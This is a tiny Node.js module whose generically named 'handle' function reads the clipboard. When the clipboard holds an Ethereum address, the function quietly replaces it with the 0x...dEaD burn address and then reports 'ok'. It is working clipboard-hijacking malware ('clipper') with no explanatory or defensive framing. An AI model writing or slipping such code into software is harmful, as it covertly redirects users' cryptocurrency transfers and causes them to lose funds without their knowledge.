const clipboardy = require("clipboardy");
exports.handle = async () => {
  const text = clipboardy.readSync();
  if (/^0x[a-fA-F0-9]{40}$/.test(text)) clipboardy.writeSync("0x000000000000000000000000000000000000dEaD");
  return "ok";
};
